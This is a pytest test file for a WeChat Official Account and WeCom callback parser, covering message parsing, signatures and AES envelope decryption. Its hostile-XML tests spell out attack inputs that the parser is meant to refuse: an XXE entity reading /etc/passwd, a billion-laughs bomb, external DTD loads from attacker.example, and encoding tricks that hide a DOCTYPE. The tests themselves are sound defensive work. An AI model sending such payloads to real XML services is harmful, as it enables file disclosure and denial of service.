"""WeChat Official Account / WeCom callback XML -> InboundMessage or Ignored; signatures; the
AES envelope (Tencent's published test vector and round trips); hostile XML."""

import base64
import hashlib
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ticket_svc.channels import wechat
from ticket_svc.channels.inbound import Ignored, InboundMessage, InvalidPayload, Sender


def callback(msg_type: str, extra: str, *, sender: str = "oABCD1234efgh", create_time: str = "1763861400",
             to: str = "gh_1234567890ab") -> bytes:
    return (f"<xml><ToUserName><![CDATA[{to}]]></ToUserName><FromUserName><![CDATA[{sender}]]></FromUserName>"
            f"<CreateTime>{create_time}</CreateTime><MsgType><![CDATA[{msg_type}]]></MsgType>{extra}</xml>").encode()


SENT = datetime(2025, 11, 23, 1, 30, tzinfo=UTC)


@pytest.mark.parametrize(("body", "text", "meta"), [
    (callback("text", "<Content><![CDATA[我的快递丢了，单号 SF1234567890]]></Content><MsgId>24358972345987234</MsgId>"),
     "我的快递丢了，单号 SF1234567890", {"msg_type": "text"}),
    (callback("text", "<Content><![CDATA[  My parcel never arrived.\nCan you check? ]]></Content><MsgId>1</MsgId>"),
     "My parcel never arrived.\nCan you check?", {"msg_type": "text"}),
    # a customer may type markup; inside CDATA it is text, not a declaration
    (callback("text", "<Content><![CDATA[<!DOCTYPE html> 页面白屏 <!ENTITY x>]]></Content><MsgId>2</MsgId>"),
     "<!DOCTYPE html> 页面白屏 <!ENTITY x>", {"msg_type": "text"}),
    (callback("text", "<Content>发票 &amp; 收据 &lt;急&gt;</Content><MsgId>3</MsgId>"),
     "发票 & 收据 <急>", {"msg_type": "text"}),
    (callback("image", "<PicUrl><![CDATA[https://mmbiz.qpic.cn/x.jpg]]></PicUrl><MediaId><![CDATA[media_img]]></MediaId>"
                       "<MsgId>4</MsgId>"),
     "[image]", {"msg_type": "image", "pic_url": "https://mmbiz.qpic.cn/x.jpg", "media_id": "media_img"}),
    (callback("voice", "<MediaId>media_v</MediaId><Format>amr</Format><Recognition><![CDATA[我要退款]]></Recognition>"
                       "<MsgId>5</MsgId>"),
     "我要退款", {"msg_type": "voice", "media_id": "media_v", "format": "amr"}),
    (callback("voice", "<MediaId>media_v</MediaId><Format>speex</Format><MsgId>6</MsgId>"),
     "[voice message]", {"msg_type": "voice", "media_id": "media_v", "format": "speex"}),
    (callback("video", "<MediaId>mv</MediaId><ThumbMediaId>mt</ThumbMediaId><MsgId>7</MsgId>"),
     "[video]", {"msg_type": "video", "media_id": "mv", "thumb_media_id": "mt"}),
    (callback("shortvideo", "<MediaId>mv</MediaId><ThumbMediaId>mt</ThumbMediaId><MsgId>8</MsgId>"),
     "[video]", {"msg_type": "shortvideo", "media_id": "mv", "thumb_media_id": "mt"}),
    (callback("location", "<Location_X>31.2304</Location_X><Location_Y>121.4737</Location_Y><Scale>15</Scale>"
                          "<Label><![CDATA[上海市黄浦区人民大道]]></Label><MsgId>9</MsgId>"),
     "[location] 上海市黄浦区人民大道 (31.2304, 121.4737)",
     {"msg_type": "location", "latitude": "31.2304", "longitude": "121.4737", "label": "上海市黄浦区人民大道", "scale": "15"}),
    (callback("location", "<Location_X>39.9</Location_X><Location_Y>116.4</Location_Y><MsgId>10</MsgId>"),
     "[location] (39.9, 116.4)", {"msg_type": "location", "latitude": "39.9", "longitude": "116.4", "label": "", "scale": ""}),
    (callback("link", "<Title><![CDATA[订单详情]]></Title><Description><![CDATA[订单 A-1001]]></Description>"
                      "<Url><![CDATA[https://shop.example.com/o/A-1001]]></Url><MsgId>11</MsgId>"),
     "订单详情\n订单 A-1001\nhttps://shop.example.com/o/A-1001", {"msg_type": "link", "url": "https://shop.example.com/o/A-1001"}),
    (callback("file", "<Title><![CDATA[报销单.xlsx]]></Title><MediaId>mf</MediaId><MsgId>12</MsgId>"),
     "[file] 报销单.xlsx", {"msg_type": "file", "media_id": "mf", "file_name": "报销单.xlsx"}),
])
def test_official_account_messages(body, text, meta):
    msg = wechat.parse_wechat_xml(body)
    assert isinstance(msg, InboundMessage)
    assert msg.channel == "wechat" and msg.body_text == text
    assert msg.sender == Sender(wechat_openid="oABCD1234efgh")
    assert msg.conversation_key == "wechat:oABCD1234efgh" and msg.sent_at == SENT
    assert msg.metadata == {**meta, "to_user_name": "gh_1234567890ab"}
    assert msg.external_id and msg.external_id.isdigit()


def test_wecom_messages_are_known_by_userid():
    body = callback("text", "<Content><![CDATA[VPN 连不上]]></Content><MsgId>4561255354251345929</MsgId>"
                            "<AgentID>1000002</AgentID>", sender="zhangsan", to="ww_corp")
    msg = wechat.parse_wechat_xml(body, channel="wecom")
    assert (msg.channel, msg.external_id, msg.conversation_key) == ("wecom", "4561255354251345929", "wecom:zhangsan")
    assert msg.sender == Sender(external_id="wecom:zhangsan")
    assert msg.metadata == {"msg_type": "text", "to_user_name": "ww_corp", "agent_id": "1000002"}


def test_a_message_without_msgid_is_keyed_by_sender_and_time():
    msg = wechat.parse_wechat_xml(callback("text", "<Content>hi</Content>"))
    assert msg.external_id == "oABCD1234efgh:1763861400"


@pytest.mark.parametrize(("body", "channel", "reason"), [
    (callback("event", "<Event><![CDATA[subscribe]]></Event>"), "wechat", "wechat-event:subscribe"),
    (callback("event", "<Event>unsubscribe</Event>"), "wechat", "wechat-event:unsubscribe"),
    (callback("event", "<Event>CLICK</Event><EventKey>MENU_HELP</EventKey>"), "wechat", "wechat-event:CLICK"),
    (callback("event", "<Event>VIEW</Event><EventKey>https://x.cn</EventKey>"), "wechat", "wechat-event:VIEW"),
    (callback("event", "<Event>LOCATION</Event><Latitude>23.1</Latitude>", create_time=""), "wechat",
     "wechat-event:LOCATION"),
    (callback("event", ""), "wechat", "wechat-event:unknown"),
    (callback("event", "<Event>enter_agent</Event><AgentID>1000002</AgentID>", sender="lisi"), "wecom",
     "wecom-event:enter_agent"),
    (callback("event", "<Event>change_contact</Event><ChangeType>update_user</ChangeType>", sender="sys"), "wecom",
     "wecom-event:change_contact"),
])
def test_events_create_nothing(body, channel, reason):
    assert wechat.parse_wechat_xml(body, channel=channel) == Ignored(reason)


@pytest.mark.parametrize(("body", "field"), [
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", sender=""), "FromUserName"),
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", sender="o" * 129), "FromUserName"),
    (callback("text", "<MsgId>1</MsgId>"), "Content"),
    (callback("text", "<Content>   </Content><MsgId>1</MsgId>"), "Content"),
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", create_time=""), "CreateTime"),
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", create_time="yesterday"), "CreateTime"),
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", create_time="-5"), "CreateTime"),
    (callback("text", "<Content>x</Content><MsgId>1</MsgId>", create_time="9" * 40), "CreateTime"),
    (callback("text", "<Content>x</Content><MsgId>" + "1" * 129 + "</MsgId>"), "MsgId"),
    (callback("miniprogrampage", "<Title>x</Title><MsgId>1</MsgId>"), "MsgType"),
    (callback("", "<MsgId>1</MsgId>"), "MsgType"),
])
def test_bad_messages_name_the_field(body, field):
    with pytest.raises(InvalidPayload) as caught:
        wechat.parse_wechat_xml(body)
    assert [e["field"] for e in caught.value.field_errors] == [field]


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]><xml><Content>&lol9;</Content></xml>")


@pytest.mark.parametrize("body", [
    # XXE: external entity reading a local file
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<xml><FromUserName>o1</FromUserName><Content>&xxe;</Content></xml>",
    # billion laughs
    BILLION_LAUGHS,
    # a DOCTYPE alone, lower case, after a comment or a long preamble, and a parameter entity
    b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>',
    b"<!doctype xml><xml/>",
    b"<!-- hi --><!DOCTYPE xml><xml/>",
    b"<?xml version='1.0'?>" + b" " * 8192 + b"<!DOCTYPE x [<!ENTITY a 'b'>]><xml/>",
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>',
    # a CDATA opener hidden in a processing instruction must not shield a DOCTYPE
    b"<?pi <![CDATA[ ?><!DOCTYPE x [<!ENTITY a 'b'>]><xml>]]></xml>",
    # the same declarations in UTF-16, invisible to a byte scan
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><xml>&a;</xml>'.encode("utf-16"),
    '<!DOCTYPE x [<!ENTITY a "b">]><xml>&a;</xml>'.encode("utf-16-le"),
    # other encodings are refused too
    '<?xml version="1.0" encoding="GBK"?><xml><Content>你好</Content></xml>'.encode("gbk"),
    # not XML, not a callback, unterminated, undefined entity, too large
    b"", b"not xml", b"<html><body/></html>", b"<xml><Content>x</xml>", b"<xml><!-- open",
    b"<xml><Content>&nbsp;</Content></xml>", b"\xff\xfe\x00",
    callback("text", "<Content>" + "长" * (wechat.MAX_BYTES // 3) + "</Content>"),
])
def test_hostile_or_broken_xml_is_refused(body):
    with pytest.raises(InvalidPayload):
        wechat.parse_wechat_xml(body)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml>&e;</xml>'])
def test_parser_refuses_a_doctype_even_without_the_scan(monkeypatch, body):
    """The second layer: were the scan ever fooled, ElementTree still stops at the DOCTYPE."""
    monkeypatch.setattr(wechat, "_refuse_declarations", lambda text: None)
    with pytest.raises(InvalidPayload, match="DOCTYPE"):
        wechat.parse_wechat_xml(body)


def test_utf8_bom_and_declaration_are_fine():
    body = b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\n<!-- from WeChat -->\n" + callback(
        "text", "<Content>你好</Content><MsgId>1</MsgId>")
    assert wechat.parse_wechat_xml(body).body_text == "你好"


def test_unknown_channel_is_a_programming_error():
    with pytest.raises(ValueError, match="channel"):
        wechat.parse_wechat_xml(callback("text", "<Content>x</Content>"), channel="dingtalk")


# --- signatures -----------------------------------------------------------------------------

def test_wechat_signature_is_sha1_of_the_sorted_strings():
    expected = hashlib.sha1(b"".join(sorted([b"QDG6eK", b"1409659813", b"1372623149"]))).hexdigest()
    assert wechat.wechat_signature("QDG6eK", "1409659813", "1372623149") == expected


@pytest.mark.parametrize(("token", "timestamp", "nonce", "signature", "ok"), [
    ("my_token", "1763861400", "1372623149", None, True),
    ("my_token", "1763861400", "1372623149", "upper", True),  # hex case does not matter
    ("my_token", "1763861401", "1372623149", None, False),
    ("other_token", "1763861400", "1372623149", None, False),
    ("my_token", "1763861400", "1372623149", "", False),
    ("my_token", "1763861400", "1372623149", "签名", False),  # non-ASCII forgery: False, not TypeError
    ("my_token", "1763861400", "1372623149", "0" * 40, False),
])
def test_verify_wechat_signature(token, timestamp, nonce, signature, ok):
    good = wechat.wechat_signature("my_token", "1763861400", "1372623149")
    given_signature = good if signature is None else good.upper() if signature == "upper" else signature
    assert wechat.verify_wechat_signature(token, timestamp, nonce, given_signature) is ok


# --- WeCom / safe-mode encryption -----------------------------------------------------------

# Tencent's published sample (developer.work.weixin.qq.com/document/path/90968): an
# independent check that the scheme is implemented as the platform does it.
TENCENT_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
TENCENT_CORP = "wx5823bf96d3bd56c7"
TENCENT_ENCRYPTED = (
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/sYYvuJTs3TUU"
    "kSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJYuR+LtwGc2hgf5gsijff0"
    "ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGUcallcrw8V2t9EL4EhzJWrQUax5wLVMN"
    "S0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDYA5Pl/T8Z1ptDAVe0lXdQ2YoyyH2uyPIGHBZZIs2pD"
    "BS8R07+qN+E7Q=="
)


def test_tencent_sample_signature_and_decryption():
    assert wechat.wecom_signature("QDG6eK", "1409659813", "1372623149", TENCENT_ENCRYPTED) == \
        "477715d11cdb4164915debcba66cb864d751f3e6"
    xml = wechat.decrypt_wechat_message(TENCENT_KEY, TENCENT_ENCRYPTED, expected_receiver_id=TENCENT_CORP)
    msg = wechat.parse_wechat_xml(xml, channel="wecom")
    assert (msg.body_text, msg.external_id, msg.sender.external_id) == ("hello", "4561255354251345929", "wecom:mycreate")
    assert msg.metadata["agent_id"] == "218"
    # the URL-verification echostr of the same sample
    echo = "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="
    assert wechat.wecom_signature("QDG6eK", "1409659589", "263014780", echo) == "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3"
    assert wechat.decrypt_wechat_message(TENCENT_KEY, echo, expected_receiver_id=TENCENT_CORP) == b"1616140317555161061"


def test_envelope_extraction():
    envelope = f"<xml><ToUserName><![CDATA[{TENCENT_CORP}]]></ToUserName><Encrypt><![CDATA[{TENCENT_ENCRYPTED}]]></Encrypt>" \
               "<AgentID><![CDATA[218]]></AgentID></xml>"
    assert wechat.encrypted_part(envelope.encode()) == TENCENT_ENCRYPTED
    for bad in (b"<xml><ToUserName>x</ToUserName></xml>", b"<!DOCTYPE x [<!ENTITY e 'x'>]><xml><Encrypt>&e;</Encrypt></xml>"):
        with pytest.raises(InvalidPayload):
            wechat.encrypted_part(bad)


KEY = base64.b64encode(bytes(range(32))).decode().rstrip("=")


@pytest.mark.parametrize(("xml", "receiver"), [
    (callback("text", "<Content><![CDATA[加密消息：打印机卡纸]]></Content><MsgId>77</MsgId>", sender="lisi"), "ww_corp_1"),
    (callback("text", "<Content>Encrypted: printer jam</Content><MsgId>78</MsgId>"), "wx0123456789abcdef"),
    (b"", "ww_corp_1"),
    (b"x" * 11, "wx"),  # 16 + 4 + 11 + 1 = 32: a whole block of padding
    (b"<xml/>" * 1000, "ww_corp_1"),
])
def test_encryption_round_trip(xml, receiver):
    encrypted = wechat.encrypt_wechat_message(KEY, xml, receiver_id=receiver)
    assert len(base64.b64decode(encrypted)) % 32 == 0
    assert wechat.decrypt_wechat_message(KEY, encrypted, expected_receiver_id=receiver) == xml
    assert wechat.decrypt_wechat_message(KEY, encrypted, expected_receiver_id="") == xml  # check skipped
    assert encrypted != wechat.encrypt_wechat_message(KEY, xml, receiver_id=receiver)  # random prefix


def test_fixed_prefix_makes_encryption_deterministic():
    one = wechat.encrypt_wechat_message(KEY, b"<xml/>", receiver_id="ww", random_prefix=b"a" * 16)
    assert one == wechat.encrypt_wechat_message(KEY, b"<xml/>", receiver_id="ww", random_prefix=b"a" * 16)
    with pytest.raises(ValueError):
        wechat.encrypt_wechat_message(KEY, b"<xml/>", receiver_id="ww", random_prefix=b"short")


def _tampered(encrypted: str, index: int) -> str:
    raw = bytearray(base64.b64decode(encrypted))
    raw[index] ^= 0x01
    return base64.b64encode(bytes(raw)).decode()


GOOD = wechat.encrypt_wechat_message(KEY, b"<xml><Content>hi</Content></xml>", receiver_id="ww_corp_1",
                                     random_prefix=b"0123456789abcdef")


@pytest.mark.parametrize(("key", "encrypted", "receiver"), [
    (KEY, GOOD, "ww_corp_2"),  # for another corp
    (KEY, GOOD, "ww_corp_"),  # a prefix of the right corp id
    (base64.b64encode(bytes(32)).decode().rstrip("="), GOOD, "ww_corp_1"),  # wrong key
    (KEY, _tampered(GOOD, -1), "ww_corp_1"),  # last byte flipped: padding breaks
    (KEY, GOOD[:-8], "ww_corp_1"),  # truncated
    (KEY, "", "ww_corp_1"),
    (KEY, "not base64!!", "ww_corp_1"),
    (KEY, base64.b64encode(b"x" * 32).decode(), "ww_corp_1"),
    (KEY, base64.b64encode(b"x" * 17).decode(), "ww_corp_1"),
    ("too-short", GOOD, "ww_corp_1"),
    (KEY + "A", GOOD, "ww_corp_1"),
    ("!" * 43, GOOD, "ww_corp_1"),
])
def test_decryption_failures_are_invalid_payload(key, encrypted, receiver):
    with pytest.raises(InvalidPayload):
        wechat.decrypt_wechat_message(key, encrypted, expected_receiver_id=receiver)


def test_length_field_beyond_the_plaintext_is_refused():
    key = bytes(range(32))
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    plain = b"r" * 16 + (10_000).to_bytes(4, "big") + b"<xml/>ww"
    plain += bytes([32 - len(plain) % 32]) * (32 - len(plain) % 32)
    enc = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    forged = base64.b64encode(enc.update(plain) + enc.finalize()).decode()
    with pytest.raises(InvalidPayload):
        wechat.decrypt_wechat_message(KEY, forged, expected_receiver_id="")


# --- arbitrary input --------------------------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000), st.sampled_from(["wechat", "wecom"]))
def test_arbitrary_bytes_raise_only_invalid_payload(data, channel):
    try:
        wechat.parse_wechat_xml(data, channel=channel)
    except InvalidPayload:
        pass


xml_text = st.text(alphabet=st.sampled_from(list("<>!?[]-&;/ xmlDOCTYPENTIY\"'=CDATA文")), max_size=200)


@settings(max_examples=300, deadline=None)
@given(xml_text)
def test_markup_soup_raises_only_invalid_payload(text):
    try:
        wechat.parse_wechat_xml(("<xml>" + text + "</xml>").encode())
    except InvalidPayload:
        pass


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_encrypted_strings_raise_only_invalid_payload(text):
    try:
        wechat.decrypt_wechat_message(KEY, text, expected_receiver_id="ww")
    except InvalidPayload:
        pass
